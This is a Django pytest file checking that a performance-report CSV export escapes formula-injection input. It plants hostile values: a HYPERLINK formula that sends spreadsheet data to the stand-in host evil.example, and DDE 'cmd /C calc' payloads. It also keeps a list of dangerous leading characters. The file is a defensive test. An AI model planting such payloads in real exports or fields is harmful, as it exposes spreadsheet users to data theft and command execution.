"""CSV formula injection through the API, as a hostile tenant would try it: names and
reasons that begin with = + - @ reach the report's CSV only as inert text."""
import csv
import io

import pytest
from django.utils import timezone

from perfmon.ops.models import Alert, AlertRule
from scaling.models import ScalingGroup

pytestmark = pytest.mark.django_db

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
RULE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ROUTE = "@SUM(1+1)*cmd|' /C calc'!A0"
REASON = "+cmd|' /C calc'!A0"


def test_hostile_names_and_reasons_reach_the_csv_report_escaped(staff_client):
    ScalingGroup.objects.create(name="-web", min_instances=1, max_instances=3)
    now = timezone.now()
    rule = AlertRule.objects.create(name=RULE, metric="http.error_rate", threshold=0.1)
    Alert.objects.create(rule=rule, fingerprint="f" * 64, labels={"route": ROUTE}, state=Alert.State.FIRING,
                         severity=rule.severity, value=1.0, threshold=0.1, started_at=now, fired_at=now,
                         last_evaluated_at=now)
    paused = staff_client.post("/api/performance/scaling/-web/pause", {"reason": REASON},
                               content_type="application/json")
    assert paused.status_code == 200, paused.content

    response = staff_client.get("/api/performance/reports?period=day&format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    for hostile in (RULE, REASON, "-web"):
        assert "'" + hostile in cells, hostile
    assert any(ROUTE in cell for cell in cells)  # inside the labels cell, which starts with "{"
